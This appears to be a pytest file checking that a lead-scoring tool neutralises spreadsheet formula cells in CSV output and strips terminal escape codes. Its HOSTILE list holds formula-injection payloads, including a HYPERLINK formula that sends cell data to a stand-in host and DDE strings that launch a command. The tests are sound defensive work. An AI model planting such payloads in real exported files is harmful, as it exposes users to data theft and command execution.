"""`score` output cannot carry a spreadsheet formula: hostile lead cells are neutralised, numbers are not."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import write

from icp_assist.cli import cli
from icp_assist.ingest.tables import Table
from icp_assist.models import IcpProfile, Rubric, RubricRule
from icp_assist.outputs import spreadsheet_cell, terminal_text
from icp_assist.score import score_leads, write_scores

PROFILE = IcpProfile(
    rubric=Rubric(
        base=50, attributes=["industry"], rules=[RubricRule(attribute="industry", value="Retail", points=5)]
    )
)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_a_leading_quote(cell: str) -> None:
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.5", "+3", "-1,200", "-3e5", "-.5", "-40%", "Acme", "", "'=already"])
def test_numbers_and_plain_text_are_unchanged(cell: str) -> None:
    assert spreadsheet_cell(cell) == cell


def test_written_csv_has_no_live_formula(tmp_path: Path) -> None:
    rows = [[cell, "Retail", "-12.5"] for cell in HOSTILE]
    leads = Table(["=Company", "Industry", "Margin"], rows, list(range(2, 2 + len(rows))))
    path = write_scores(score_leads(leads, PROFILE), tmp_path / "scored.csv")
    out = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert out[0][0] == "'=Company"
    for row in out[1:]:
        assert all(not c.startswith(("=", "+", "@", "\t", "\r")) for c in row)
        assert row[0].startswith("'") and row[2] == "-12.5"


def test_score_top_prints_neutralised_cells_and_no_escape_codes(tmp_path: Path) -> None:
    icp = write(tmp_path / "icp.json", PROFILE.model_dump_json())
    leads = write(
        tmp_path / "leads.csv",
        'Account ID,Company,Industry\n=1+1,"=HYPERLINK(""http://x"")",Retail\nA2,"\x1b[31mred\x1b[0m",Retail\n',
    )
    result = CliRunner().invoke(cli, ["score", str(leads), "--icp", str(icp)])
    assert result.exit_code == 0, result.output
    assert "'=1+1" in result.output and "'=HYPERLINK" in result.output
    assert "\x1b" not in result.output and terminal_text("\x1b[31m") == "?[31m"
